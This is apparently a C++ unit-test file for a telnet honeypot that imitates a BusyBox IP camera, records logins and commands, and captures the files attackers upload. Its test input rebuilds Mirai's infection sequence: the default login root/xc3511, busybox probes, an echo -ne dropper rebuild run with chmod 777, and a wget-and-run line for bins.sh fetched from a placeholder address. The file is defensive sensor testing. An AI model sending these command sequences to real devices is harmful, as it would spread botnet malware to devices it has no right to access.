#include "sensor/protocols/telnet/telnet_session.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "sensor/persona/test_persona.h"

namespace mitsu::sensor::telnet {
namespace {

class PolicyGate : public LoginGate {
 public:
  explicit PolicyGate(CredentialPolicy policy) : policy_(std::move(policy)) {}
  bool accept(std::string_view user, std::string_view password) override {
    bool ok = credentials_accepted(policy_, user, password, failures_);
    failures_ += ok ? 0 : 1;
    return ok;
  }

 private:
  CredentialPolicy policy_;
  int failures_ = 0;
};

DevicePersona camera() {
  DevicePersona p = test_persona("camera", "mips", "IPCAM");
  p.max_login_failures = 3;
  return p;
}

std::string bytes(std::initializer_list<int> values) {
  std::string s;
  for (int v : values) {
    s += static_cast<char>(v);
  }
  return s;
}

// What a session produced: the bytes sent and its events, flattened for comparison.
struct Transcript {
  std::string sent;
  std::vector<std::string> events;
  std::vector<CapturedFile> captures;
  std::vector<std::string> downloads;
  bool closed = false;

  void add(SessionActions&& a) {
    sent += a.send + a.then_send;
    for (const auto& e : a.events) {
      events.push_back(e.action + " " + e.fields.dump());
    }
    for (auto& c : a.captures) {
      captures.push_back(std::move(c));
    }
    for (const auto& d : a.downloads) {
      downloads.push_back(d.url + " -> " + d.local_path);
    }
    closed = closed || a.close;
  }
};

Transcript replay(const std::string& input, std::size_t chunk) {
  DevicePersona persona = camera();
  PolicyGate gate(persona.credentials);
  TelnetSession session(persona, persona_filesystem(persona), gate, 0);
  Transcript t;
  t.add(session.open());
  for (std::size_t at = 0; at < input.size() && !t.closed; at += chunk) {
    std::string_view part = std::string_view(input).substr(at, chunk);
    t.add(session.receive(std::as_bytes(std::span(part.data(), part.size()))));
  }
  t.add(session.finish());
  return t;
}

// Mirai's loader: answers telnetd's options (WILL NAWS + window size, WONT the rest), logs in,
// probes the shell, reads /bin/echo for the CPU, rebuilds its dropper with echo -ne in chunks.
std::string mirai_loader_input(const std::string& dropper) {
  std::string in = bytes(
      {255, 252, 1, 255, 251, 31, 255, 250, 31, 0, 80, 0, 24, 255, 240, 255, 253, 1, 255, 253, 3});
  in += "root\r\n";
  in += "wrong\r\n";
  in += "root\r\nxc3511\r\n";
  in += "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n";
  in += "/bin/busybox cat /bin/echo\r\n";
  in += "cd /tmp\r\n";
  for (std::size_t at = 0; at < dropper.size(); at += 16) {
    std::string chunk;
    for (std::size_t i = at; i < std::min(dropper.size(), at + 16); ++i) {
      chunk += fmt::format("\\x{:02x}", static_cast<unsigned char>(dropper[i]));
    }
    in += fmt::format("/bin/busybox echo -ne '{}' {} .d\r\n", chunk, at == 0 ? ">" : ">>");
  }
  in += "/bin/busybox chmod 777 .d\r\n./.d\r\n";
  return in;
}

TEST(TelnetSession, GreetsAsBusyboxTelnetd) {
  DevicePersona persona = camera();
  PolicyGate gate(persona.credentials);
  TelnetSession session(persona, persona_filesystem(persona), gate, 0);
  SessionActions opened = session.open();
  std::string greeting = opened.send + opened.then_send;
  EXPECT_EQ(opened.send.size(), 12u) << "the negotiation goes alone, before the prompt";
  EXPECT_EQ(greeting.substr(0, 12), bytes({255, 253, 1, 255, 253, 31, 255, 251, 1, 255, 251, 3}));
  EXPECT_TRUE(greeting.ends_with("IPCAM login: "));
}

TEST(TelnetSession, MiraiLoaderSessionEndsWithTheRebuiltDropperCaptured) {
  std::string dropper = std::string(
                            "\x7f"
                            "ELF\x01\x02\x01",
                            7) +
                        std::string(40, '\xff') + "dropper body \r\n with CR LF and \x00 NUL";
  Transcript t = replay(mirai_loader_input(dropper), 1000000);
  ASSERT_GE(t.events.size(), 3u);
  EXPECT_EQ(
      t.events[0],
      R"(login.attempt {"event.outcome":"failure","mitsu.login.method":"password","mitsu.login.password":"wrong","user.name":"root"})");
  EXPECT_EQ(
      t.events[1],
      R"(login.attempt {"event.outcome":"success","mitsu.login.method":"password","mitsu.login.password":"xc3511","user.name":"root"})");
  EXPECT_EQ(t.events[2], R"(command {"process.command_line":"enable"})");
  EXPECT_NE(t.sent.find("ECCHI: applet not found\r\n"), std::string::npos);
  // /bin/echo of a big-endian MIPS device, IAC-escaped on the wire.
  EXPECT_NE(t.sent.find(bytes({0x7f, 'E', 'L', 'F', 1, 2, 1})), std::string::npos);
  ASSERT_EQ(t.captures.size(), 1u);
  EXPECT_EQ(t.captures[0].path, "/tmp/.d");
  EXPECT_EQ(t.captures[0].content, dropper);
}

TEST(TelnetSession, AnyChunkingGivesTheSameSession) {
  std::string dropper(300, '\0');
  for (std::size_t i = 0; i < dropper.size(); ++i) {
    dropper[i] = static_cast<char>(i * 7);
  }
  std::string input =
      mirai_loader_input(dropper) +
      "cd /tmp || cd /var/run; wget http://192.0.2.7/bins.sh; sh bins.sh\r\nexit\r\n";
  Transcript whole = replay(input, input.size());
  EXPECT_FALSE(whole.events.empty());
  EXPECT_EQ(whole.downloads.size(), 1u);
  for (std::size_t chunk : {1u, 2u, 5u, 100u}) {
    Transcript t = replay(input, chunk);
    EXPECT_EQ(t.sent, whole.sent) << chunk << "-byte chunks";
    EXPECT_EQ(t.events, whole.events) << chunk << "-byte chunks";
    EXPECT_EQ(t.downloads, whole.downloads) << chunk << "-byte chunks";
    ASSERT_EQ(t.captures.size(), whole.captures.size());
    EXPECT_TRUE(t.closed);
  }
}

TEST(TelnetSession, ThreeFailuresEndTheSession) {
  Transcript t = replay("a\r\nb\r\nc\r\nd\r\ne\r\nf\r\ng\r\nh\r\n", 3);
  EXPECT_EQ(t.events.size(), 3u);
  EXPECT_TRUE(t.closed);
  EXPECT_NE(t.sent.find("Login incorrect"), std::string::npos);
}

TEST(TelnetSession, PasswordsAreNotEchoedButCommandsAre) {
  Transcript t = replay("root\rxc3511\recho hi\r", 4);
  EXPECT_EQ(t.sent.find("xc3511"), std::string::npos);
  EXPECT_NE(t.sent.find("echo hi\r\nhi\r\n"), std::string::npos);
}

TEST(TelnetSession, OverlongLineEndsTheSession) {
  Transcript t = replay("root\r\nxc3511\r\n" + std::string(kMaxLineBytes + 10, 'a'), 4096);
  EXPECT_TRUE(t.closed);
}

TEST(TelnetDecoder, SubnegotiationsAndEscapedIac) {
  Decoder d;
  Decoded out;
  std::string in = bytes({'a', 255, 255, 'b', 255, 250, 24,  0,   'x', 't',
                          255, 255, 255, 240, 255, 241, 'c', 255, 253, 34});
  d.feed(std::as_bytes(std::span(in.data(), in.size())), out);
  EXPECT_EQ(out.data, bytes({'a', 255, 'b', 'c'}));
  ASSERT_EQ(out.subnegotiations.size(), 1u);
  EXPECT_EQ(out.subnegotiations[0].option, kOptTerminalType);
  EXPECT_EQ(out.subnegotiations[0].data, bytes({0, 'x', 't', 255}));
  ASSERT_EQ(out.negotiations.size(), 1u);
  EXPECT_EQ(answer(out.negotiations[0]), bytes({255, 252, 34}));
}

}  // namespace
}  // namespace mitsu::sensor::telnet
